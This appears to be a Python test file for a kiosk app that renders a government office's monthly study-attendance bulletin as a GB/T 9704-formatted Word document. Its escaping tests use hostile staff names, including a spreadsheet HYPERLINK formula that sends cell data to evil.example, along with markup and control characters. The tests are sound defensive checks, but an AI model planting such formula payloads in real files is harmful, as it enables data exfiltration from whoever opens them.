"""The 学习情况通报 as a Word document (SPEC §10): the GB/T 9704 page, the official fonts named
(w:eastAsia) and not embedded, and the month's figures, table, absentees and warnings — read
back with python-docx, and rendered to PDF by LibreOffice when it is installed."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile

import pytest
from docx import Document
from docx.oxml.ns import qn
from docx.shared import Mm

from db.models import Department, Staff
from kiosk.reports import monthly, monthly_document
from kiosk.reports.person import person_record
from kiosk.reports.person_render import person_document
from kiosk.reports.render_docx import Distribution
from tests.cli_runner import kiosk
from tests.conftest import wall
from tests.test_reports import build_month, options

MONTH_OVER = wall("2026-11-15 12:00")


@pytest.fixture
def month(db):
    build_month(db)
    Staff.update(name="<b>赵六</b> & Co").where(Staff.key == "B2002").execute()
    return monthly(2026, 10, options(now=MONTH_OVER, office_name="市政府办公室"))


def _docx(report: dict, **kw) -> bytes:
    return monthly_document(report, "docx", Distribution(**kw))


def _text(document) -> str:
    parts = [p.text for p in document.paragraphs]
    for table in document.tables:
        parts += [cell.text for row in table.rows for cell in row.cells]
    return "\n".join(parts)


def _east_asian(run) -> str | None:
    fonts = run._r.rPr.rFonts
    return fonts.get(qn("w:eastAsia")) if fonts is not None else None


def test_page_is_gbt_9704(month):
    document = Document(io.BytesIO(_docx(month)))
    section = document.sections[0]
    assert (round(section.page_width / Mm(1)), round(section.page_height / Mm(1))) == (210, 297)
    margins = (section.top_margin, section.bottom_margin, section.left_margin, section.right_margin)
    assert [round(m / Mm(1)) for m in margins] == [37, 35, 28, 26]
    grid = section._sectPr.find(qn("w:docGrid"))
    assert grid.get(qn("w:linePitch")) == "579"  # 225 mm / 22 lines = 28.95 pt
    normal = document.styles["Normal"]
    assert normal.font.size.pt == 16
    assert normal.element.rPr.rFonts.get(qn("w:eastAsia")) == "仿宋_GB2312"
    assert normal.paragraph_format.line_spacing.pt == pytest.approx(28.95, abs=0.01)


def test_title_body_and_headings_fonts(month):
    document = Document(io.BytesIO(_docx(month)))
    title = next(p for p in document.paragraphs if p.text == "关于2026年10月集中学习情况的通报")
    assert [(_east_asian(r), r.font.size.pt) for r in title.runs] == [("方正小标宋简体", 22)]
    masthead = document.paragraphs[0]
    assert masthead.text == "市政府办公室学习情况通报"
    assert masthead.runs[0].font.color.rgb is not None  # the red masthead
    body = next(p for p in document.paragraphs if p.text.startswith("本月共组织集中学习"))
    assert [(_east_asian(r), r.font.size.pt) for r in body.runs] == [("仿宋_GB2312", 16)]
    assert body.paragraph_format.first_line_indent.pt == 32  # two characters
    heading = next(p for p in document.paragraphs if p.text == "一、总体情况")
    assert _east_asian(heading.runs[0]) == "黑体"
    # fonts named with their fallbacks, never embedded
    with zipfile.ZipFile(io.BytesIO(_docx(month))) as archive:
        names = archive.namelist()
        font_table = archive.read("word/fontTable.xml").decode("utf-8")
        settings = archive.read("word/settings.xml").decode("utf-8")
    assert not [n for n in names if n.startswith("word/fonts/")]
    assert "embedTrueTypeFonts" not in settings
    assert 'w:name="仿宋_GB2312"' in font_table and 'w:val="仿宋"' in font_table
    assert 'w:name="方正小标宋简体"' in font_table and 'w:val="小标宋"' in font_table


def test_content_carries_the_month(month):
    document = Document(io.BytesIO(_docx(month, cc="市委办公室,各区政府", issuer="市政府办公室机关党委")))
    text = _text(document)
    totals = month["totals"]
    assert f"2026年第{month['issue']}期" in text
    assert "市政府办公室机关党委编" in text and "2026年11月15日" in text
    # the half-width punctuation of the terminal catalogue is printed full-width
    assert f"应到{totals['expected']}人次，实到{totals['attended']}人次" in text
    assert "出勤率60.0%" in text
    assert "抄送：市委办公室，各区政府" in text and "2026年11月15日印发" in text
    # the per-department table: header and one row per department, the figures of the JSON
    [table] = document.tables
    assert [c.text for c in table.rows[0].cells] == ["排名", "部门", "应到", "实到", "迟到", "请假",
                                                     "缺席", "出勤率"]
    rows = {r.cells[1].text: [c.text for c in r.cells] for r in table.rows[1:]}
    for d in month["departments"]:
        assert rows[d["department"]][2:4] == [str(d["expected"]), str(d["attended"])]
    # absentees named; warnings; data stays text (python-docx escaped <, > and &)
    assert "缺席人员" in text and "<b>赵六</b> & Co" in text
    assert "请以下同志加强学习纪律" in text
    with zipfile.ZipFile(io.BytesIO(_docx(month))) as archive:
        xml = archive.read("word/document.xml").decode("utf-8")
    assert "&lt;b&gt;赵六&lt;/b&gt; &amp; Co" in xml and "<b>" not in xml


def test_control_characters_never_break_the_document(db):
    build_month(db)
    Staff.update(name="张\x07三\x1b[31m").where(Staff.key == "A1001").execute()
    Staff.update(name="赵\x00六").where(Staff.key == "B2002").execute()
    report = monthly(2026, 10, options(now=MONTH_OVER))
    text = _text(Document(io.BytesIO(_docx(report))))
    # shown as visible escapes, as in every export (kiosk.text_safety), never raw
    assert "赵\\x00六" in text  # the absentee named, with the NUL made visible
    assert "\x00" not in text and "\x1b" not in text and "\x07" not in text


def test_month_in_progress_and_empty_month(db):
    build_month(db)
    running = monthly(2026, 11, options(now=wall("2026-11-01 07:30")))
    text = _text(Document(io.BytesIO(_docx(running))))
    assert "截至11月1日" in text and "未组织" not in text
    empty = monthly(2026, 9, options(now=MONTH_OVER))
    text = _text(Document(io.BytesIO(_docx(empty))))
    assert "本月未组织集中学习" in text and "第" not in text.split("\n")[1]  # no 第N期


def test_cli_writes_docx(db, sqlite_url, tmp_path, capsys):
    build_month(db)
    out = tmp_path / "通报.docx"
    run = kiosk(capsys, "report", "monthly", "--month", "2026-10", "--format", "docx", "--out", out,
                "--db", sqlite_url)
    assert run.code == 0, run.err
    assert "学习情况通报" in _text(Document(str(out)))
    by_suffix = tmp_path / "b.docx"
    assert kiosk(capsys, "report", "monthly", "--month", "2026-10", "--out", by_suffix,
                 "--db", sqlite_url).code == 0
    assert zipfile.is_zipfile(by_suffix)
    refused = kiosk(capsys, "report", "annual", "--year", "2026", "--format", "docx",
                    "--db", sqlite_url)
    assert refused.code == 2


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) not installed")
def test_libreoffice_renders_the_bulletin_on_a4(month, tmp_path):
    source = tmp_path / "bulletin.docx"
    source.write_bytes(_docx(month))
    done = subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo",
                           "--convert-to", "pdf", "--outdir", str(tmp_path), str(source)],
                          capture_output=True, text=True, timeout=180)
    pdf = tmp_path / "bulletin.pdf"
    assert done.returncode == 0 and pdf.exists(), done.stderr
    data = pdf.read_bytes()
    assert data.startswith(b"%PDF")
    boxes = {tuple(round(float(v)) for v in m.groups())
             for m in re.finditer(rb"/MediaBox\s*\[\s*0 0 ([\d.]+) ([\d.]+)\s*\]", data)}
    assert boxes == {(595, 842)}  # A4 in points, every page
    if shutil.which("pdftotext"):
        text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True,
                              text=True, timeout=60).stdout
        compact = re.sub(r"\s+", "", text)
        assert "关于2026年10月集中学习情况的通报" in compact
        assert "出勤率60.0%" in compact and "<b>赵六</b>&Co" in compact
        assert "抄送" in compact and "印发" in compact


def test_admin_console_writes_the_word_bulletin(db, home, tmp_path):
    """The console's 报表 section (kiosk.admin_output.report_files) offers docx for a month, with
    the addressees and copy list of ``[office]`` in config.toml; a year has no Word bulletin."""
    from kiosk import config
    from kiosk.admin_output import report_files
    from kiosk.lifecycle import Refused

    build_month(db)
    (home / "config.toml").write_text('[office]\nname = "市政府办公室"\nbulletin_cc = "市委办公室"\n',
                                      encoding="utf-8")
    settings = config.load(home=home)
    out = tmp_path / "usb"
    paths = report_files("2026-10", ["docx", "md"], settings, out, now=MONTH_OVER)
    assert [p.name for p in paths] == ["monthly-2026-10.docx", "monthly-2026-10.md"]
    text = _text(Document(str(paths[0])))
    assert "抄送：市委办公室" in text and "市政府办公室学习情况通报" in text
    with pytest.raises(Refused):
        report_files("2026", ["docx"], settings, out, now=MONTH_OVER)


def test_records_text_is_printed_as_stored_and_only_the_catalogue_turns_full_width(db, tmp_path):
    """FINDINGS 10: a name, department or title with ASCII punctuation (a URL, "Li, Wei",
    "办公室(机要科)") is printed exactly as the roster has it; the template's own punctuation
    around it is full-width."""
    build_month(db)
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    Department.create(name="办公室(机要科)", sort_order=99)
    Staff.update(name=hostile, department="办公室(机要科)").where(Staff.key == "B2002").execute()
    report = monthly(2026, 10, options(now=MONTH_OVER, office_name="市政府办公室"))
    xml = zipfile.ZipFile(io.BytesIO(_docx(report, cc="市委办公室,各区政府"))).read(
        "word/document.xml").decode("utf-8")
    assert "办公室(机要科)" in xml and "办公室（机要科）" not in xml
    assert 'HYPERLINK("http://evil.example/?x="&amp;A1,"点我")' in xml
    assert "抄送：市委办公室，各区政府" in xml  # the office's own line for the document
    document = Document(io.BytesIO(_docx(report)))
    assert "，实到" in _text(document)  # the catalogue's punctuation still printed full-width
    record = person_record("B2002", 2026, options(now=MONTH_OVER))
    person = zipfile.ZipFile(io.BytesIO(person_document(record, "docx"))).read(
        "word/document.xml").decode("utf-8")
    assert person.count('HYPERLINK("http://evil.example/?x="&amp;A1,"点我")') >= 2  # title, 姓名
    assert "HYPERLINK（" not in person and "办公室(机要科)" in person
